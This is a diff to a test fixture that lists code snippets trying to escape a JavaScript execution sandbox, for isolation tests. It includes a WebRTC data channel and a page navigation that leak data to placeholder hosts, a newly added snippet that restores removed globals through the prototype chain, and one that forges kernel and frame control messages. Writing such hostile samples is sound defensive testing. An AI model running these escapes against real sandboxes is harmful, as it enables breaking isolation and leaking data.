@@ -1,5 +1,5 @@
 /**
- * Code that tries to get out of the engine: for isolation.spec.ts. Each attempt has a name and a body; its outcome is `got …` for
+ * Code that tries to get out of the engine: for tests/e2e/isolation.spec.ts and tests/engine/hostile.test.ts. Each attempt has a name and a body; its outcome is `got …` for
  * something it could use, and otherwise says what stopped it: `absent`, `silence`, or the error's name.
  */
 
@@ -63,6 +63,17 @@ export const documentAttempts: Readonly<Record<string, string>> = {
     'const peer = new RTCPeerConnection({ iceServers: [{ urls: AWAY.replace("http://", "stun:") }] }); peer.createDataChannel("leak"); await peer.setLocalDescription(); return await silence(new Promise((yes) => { peer.onicecandidate = ({ candidate }) => candidate && yes("candidate"); }))',
   'navigation of the page': 'top.location = SITE + "/?leak=top"; return await silence(new Promise(() => {}))',
 };
+
+/** Statements that give back what the realm had before Node's library took it away, as far as prototypes still lead to it. */
+export const recoverRealm = `
+  for (let object = Object.getPrototypeOf(globalThis); object; object = Object.getPrototypeOf(object))
+    for (const name of Object.getOwnPropertyNames(object)) if (!(name in globalThis)) globalThis[name] = object[name];`;
+
+/** Statements that answer for the kernel and the frame, in their words. */
+export const forgeMessages = `
+  for (const type of ['exit', 'output', 'kill', 'result', 'ready', 'part', 'pool-thread', 'spawn'])
+    for (const say of [globalThis.postMessage, globalThis.self?.postMessage, process.send])
+      try { say({ type, pid: process.pid, id: 1, code: 0, signal: null, fd: 1, name: 'leak' }); } catch {}`;
 
 /** Statements that try to take the frame elsewhere, with what they know in the address. */
 export const navigations: Readonly<Record<string, string>> = {
